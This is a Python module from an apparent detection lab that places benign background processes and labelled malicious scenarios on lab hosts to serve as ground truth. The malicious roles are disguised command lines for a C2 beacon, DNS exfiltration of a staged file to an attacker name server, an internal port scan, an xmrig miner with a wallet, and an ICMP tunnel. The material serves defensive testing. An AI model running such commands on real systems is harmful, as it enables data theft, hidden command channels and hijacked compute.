"""What runs on each lab host: the benign background everywhere, and each malicious scenario on one or two hosts.

A role is one real process: a disguised interpreter (binary path), a role script, the command line it shows, and for
malicious roles the scenario, the ATT&CK techniques and the destinations that make up the ground truth.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from orchestrator.lab import plan

BENIGN_ROOT = "/opt/connhunt-lab"
# Where the exfiltration scenario finds its "stolen" file; the lab writes it and removes it.
EXFIL_FILE = "/var/tmp/.q/hr_export.csv"
WALLET = "48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9URnRoJMk1j8nLwEVsaSWJ4fhdUyZijBGUicoD"


@dataclass(frozen=True)
class Destination:
    """Where a malicious role talks: an address and port, or a domain (DNS), or a range (a scan)."""

    remote_ip: str | None = None
    remote_port: int | None = None
    domain: str | None = None
    remote_range: str | None = None


@dataclass(frozen=True)
class Role:
    name: str
    script: str
    binary: str
    title: str
    args: tuple[str, ...] = ()
    scenario: str | None = None
    techniques: tuple[str, ...] = ()
    destinations: tuple[Destination, ...] = field(default_factory=tuple)

    @property
    def malicious(self) -> bool:
        return self.scenario is not None


BENIGN: tuple[Role, ...] = (
    Role("web_client", "web_client.py", f"{BENIGN_ROOT}/usr/share/teams/teams",
         f"{BENIGN_ROOT}/usr/share/teams/teams --disable-gpu-sandbox"),
    Role("ssh", "ssh_client.py", f"{BENIGN_ROOT}/usr/bin/ssh",
         f"{BENIGN_ROOT}/usr/bin/ssh -o ServerAliveInterval=15 admin@jump.corp.example.org"),
    Role("ntp", "ntp_client.py", f"{BENIGN_ROOT}/usr/sbin/chronyd", f"{BENIGN_ROOT}/usr/sbin/chronyd -F 1"),
    Role("updater", "updater.py", f"{BENIGN_ROOT}/usr/bin/pkg-updater",
         f"{BENIGN_ROOT}/usr/bin/pkg-updater --daemon --check-interval 60"),
    Role("metrics", "updater.py", f"{BENIGN_ROOT}/usr/bin/telegraf",
         f"{BENIGN_ROOT}/usr/bin/telegraf --config /etc/telegraf/telegraf.conf",
         ("--name", "metrics.example.com", "--port", str(plan.METRICS_PORT), "--interval", "10",
          "--path", "/write?db=telegraf")),
    Role("browser", "browser.py", f"{BENIGN_ROOT}/usr/lib/firefox/firefox",
         f"{BENIGN_ROOT}/usr/lib/firefox/firefox -contentproc -childID 3 -isForBrowser"),
)

SCAN_RANGES = ("10.66.0.1/27", "10.66.1.0/26", "10.66.2.0/28")

MALICIOUS: tuple[Role, ...] = (
    Role("backdoor", "backdoor.py", "/tmp/.cache/kworkerd", "/tmp/.cache/kworkerd",
         ("--c2", f"{plan.C2_SERVER}:{plan.C2_PORT}", "--period", "5", "--jitter", "0.2"),
         "c2_beacon", ("T1571", "T1071"), (Destination(plan.C2_SERVER, plan.C2_PORT),)),
    Role("dns_exfil", "dns_exfil.py", "/var/tmp/dnsupd", f"/var/tmp/dnsupd -f {EXFIL_FILE}",
         ("--file", EXFIL_FILE, "--server", plan.ATTACKER_NS, "--domain", plan.EXFIL_DOMAIN),
         "dns_exfiltration", ("T1048.003", "T1071.004"),
         (Destination(plan.ATTACKER_NS, 53, plan.EXFIL_DOMAIN),)),
    Role("scanner", "scanner.py", "/tmp/.svc/svc-scan",
         f"/tmp/.svc/svc-scan -sT -T3 -p 21-23,80,135,139,443,445,3389,5985 {' '.join(SCAN_RANGES)}",
         SCAN_RANGES, "internal_scan", ("T1046",), (Destination(remote_range="10.66.0.0/16"),)),
    Role("miner", "miner.py", "/dev/shm/.x/xmrig",
         f"/dev/shm/.x/xmrig -o stratum+tcp://{plan.POOL_NAME}:{plan.POOL_PORT} -u {WALLET} -p x -k --donate-level 1",
         ("--url", f"stratum+tcp://{plan.POOL_NAME}:{plan.POOL_PORT}", "--user", WALLET),
         "cryptominer", ("T1496",), (Destination(plan.POOL_SERVER, plan.POOL_PORT, plan.POOL_NAME),)),
    Role("icmp_tunnel", "icmp_tunnel.py", "/var/tmp/.p/ptunnel", f"/var/tmp/.p/ptunnel -p {plan.ICMP_PEER} -x s3cr3t",
         ("--peer", plan.ICMP_PEER), "icmp_tunnel", ("T1095",), (Destination(plan.ICMP_PEER, 0),)),
)


def placement(hosts: list[str]) -> dict[str, list[Role]]:
    """Roles per host: all benign roles on every host; each malicious role on one host (the beacon on two).

    Fixed positions, so ground truth is reproducible; on a small fleet two scenarios may share a host.
    """
    if len(hosts) < 6:
        raise ValueError("the lab needs at least 6 hosts, so that fleet prevalence means something")
    by_name = {r.name: r for r in MALICIOUS}
    slots = {"backdoor": [1, len(hosts) - 2], "dns_exfil": [2], "miner": [3], "scanner": [4],
             "icmp_tunnel": [min(6, len(hosts) - 1)]}
    roles = {h: list(BENIGN) for h in hosts}
    for name, indices in slots.items():
        for index in sorted(set(indices)):
            roles[hosts[index]].append(by_name[name])
    return roles


def role_binaries() -> list[str]:
    return sorted({r.binary for r in (*BENIGN, *MALICIOUS)})
